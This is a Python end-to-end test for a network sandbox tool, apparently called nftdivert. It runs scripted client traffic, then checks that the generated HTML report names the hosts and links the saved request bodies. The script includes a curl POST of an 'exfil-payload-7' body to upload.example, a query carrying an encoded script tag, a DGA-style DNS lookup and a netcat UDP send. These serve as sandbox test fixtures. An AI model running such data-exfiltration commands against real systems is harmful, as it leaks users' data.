"""End to end: a sandbox's conversation log, then `nftdivert report`: the page names
what the clients did, links what was saved, and is strict HTML with nothing active.
(Why html5lib and no browser: tests/report/test_report.py.)"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from urllib.parse import unquote

import pytest

import harness
from conftest import REPO, nftdivert_argv
from htmlcheck import strict_tree, text_of

pytestmark = [pytest.mark.kernel, pytest.mark.any_backend]


def test_a_sandbox_run_reported_as_one_page(tmp_path):
    saved = tmp_path / "saved"
    config = tmp_path / "sandbox.toml"
    config.write_text(harness.DIVERT_PATH_LINE + f'[queue]\nbackend = "{harness.BACKEND}"\n'
                      f'[http]\nbodies_dir = "{saved}/bodies"\n[server_first]\nmail_dir = "{saved}/mail"\n')
    mail = tmp_path / "mail.eml"
    mail.write_text("Subject: <b>report</b>\r\n\r\nhello\r\n")
    log = tmp_path / "run.jsonl"
    script = ("curl -sS -4 -o /dev/null 'http://report-site.example:8080/page?q=%3Cscript%3E'; "
              "curl -sS -o /dev/null -d exfil-payload-7 http://upload.example/post; "
              "curl -sS -o /dev/null https://secure.example/login; "
              "dig +short +tries=1 +time=5 dga-report.example; "
              f"curl -sS --mail-from a@sender.example --mail-rcpt b@rcpt.example -T {mail} smtp://mx.example:25; "
              "echo ping | nc -u -q1 -w2 198.51.100.9 5353; true")
    env = dict(os.environ, PYTHONPATH=str(REPO))
    for sudo in ("SUDO_UID", "SUDO_GID"):
        env.pop(sudo, None)
    run = subprocess.run(nftdivert_argv("sandbox", "-c", str(config), "--log", str(log), "--log-format", "json",
                                        "--", "sh", "-c", script), capture_output=True, text=True, env=env,
                         timeout=180)
    assert run.returncode == 0, run.stderr
    events = {json.loads(line)["event"] for line in log.read_text().splitlines()}
    assert {"start", "end", "dns", "tls", "http", "smtp"} <= events, events

    out = tmp_path / "pages" / "report.html"
    out.parent.mkdir()
    made = subprocess.run(nftdivert_argv("report", str(log), "-o", str(out)), capture_output=True, text=True,
                          env=env, timeout=60)
    assert made.returncode == 0 and "conversations" in made.stdout, made.stderr
    doc = strict_tree(out.read_text())
    shown = text_of(doc)
    for expected in ("report-site.example", "http://report-site.example:8080/page?q=%3Cscript%3E",
                     "upload.example", "secure.example", "https://secure.example/login", "dga-report.example",
                     "a@sender.example", "b@rcpt.example", "198.51.100.9", "udp", "tcp"):
        assert expected in shown, expected
    links = [a.attrib["href"] for a in doc.iter("a")]
    targets = [(out.parent / unquote(href)).resolve() for href in links]
    assert len(links) >= 2 and all(t.is_file() for t in targets), links
    contents = {t.read_bytes() for t in targets}
    assert b"exfil-payload-7" in contents and any(b"hello" in c for c in contents)
    print(f"\nreport: {out}")
